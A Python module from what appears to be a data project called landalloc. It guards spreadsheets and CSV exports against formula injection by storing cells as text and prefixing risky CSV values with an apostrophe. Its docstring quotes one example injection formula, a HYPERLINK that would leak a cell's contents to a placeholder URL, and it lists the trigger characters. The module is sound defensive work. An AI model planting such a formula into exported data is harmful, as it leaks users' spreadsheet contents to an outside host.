"""Keep text from the data from becoming a spreadsheet formula (CSV / formula injection).

A project or company name such as ``=HYPERLINK("http://x?leak="&A2,"点击")`` is data, but a
spreadsheet program runs it as a formula when it meets it in a cell. Two rules, one per format:

* Workbooks (``.xlsx``): every text cell is stored as text — :func:`text_cells_as_text` on each
  worksheet before saving — so nothing written from data is ever a formula cell. The text itself
  is kept verbatim. (Conditional formatting rules are not cells and are untouched.)
* CSVs are read by other programs as well, so they change as little as possible: only in the
  human-text columns (names, reasons, …, never ids, numbers or dates) a value starting with
  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` (the OWASP rule):
  :func:`neutralise_csv_text`; :func:`restore_csv_text` undoes it for programs of this project
  that read those CSVs back.

This module sits in :mod:`geodata` (the bottom layer) so that every layer may use it.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet program read a cell as a formula.
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

#: The human-text columns of the CSVs landalloc writes (names, companies, reasons, missing items,
#: department names, scenario names). Ids, codes, numbers and dates are not among them.
TEXT_COLUMNS: tuple[str, ...] = (
    "name",
    "company",
    "reason",
    "reason_en",
    "missing",
    "misfit",
    "owner_zh",
    "owner_en",
    "items_zh",
    "items_en",
    "scenario",
    "reference",
)


def neutralise_text(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is a string starting like a formula; else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def restore_text(value: Any) -> Any:
    """Undo :func:`neutralise_text` (strings starting ``'`` + a formula character)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def _map_columns(df: pd.DataFrame, columns: Iterable[str], fn: Any) -> pd.DataFrame:
    out = df.copy()
    for col in dict.fromkeys(columns):
        if col in out.columns and (
            out[col].dtype == object or isinstance(out[col].dtype, pd.StringDtype)
        ):
            out[col] = out[col].map(fn)
    return out


def neutralise_csv_text(df: pd.DataFrame, columns: Iterable[str] = TEXT_COLUMNS) -> pd.DataFrame:
    """A copy of ``df`` safe to write as CSV: see :func:`neutralise_text`.

    Parameters
    ----------
    df
        The table.
    columns
        The human-text columns to neutralise (default :data:`TEXT_COLUMNS`); names ``df`` does
        not have are skipped. Other columns, and non-string values, are left exactly as they are.
    """
    return _map_columns(df, columns, neutralise_text)


def restore_csv_text(df: pd.DataFrame, columns: Iterable[str] = TEXT_COLUMNS) -> pd.DataFrame:
    """A copy of ``df`` (read from a CSV written with :func:`neutralise_csv_text`) restored."""
    return _map_columns(df, columns, restore_text)


def text_cells_as_text(ws: Any) -> None:
    """Store every text cell of the openpyxl worksheet ``ws`` as a string, never a formula.

    openpyxl reads a ``str`` value starting with ``=`` as a formula (and ``#N/A`` and the like as
    an error value); this resets each such cell to the string type, keeping its text verbatim.
    Call it after the cells are filled and before the workbook is saved.
    """
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.data_type != "s":
                cell.data_type = "s"
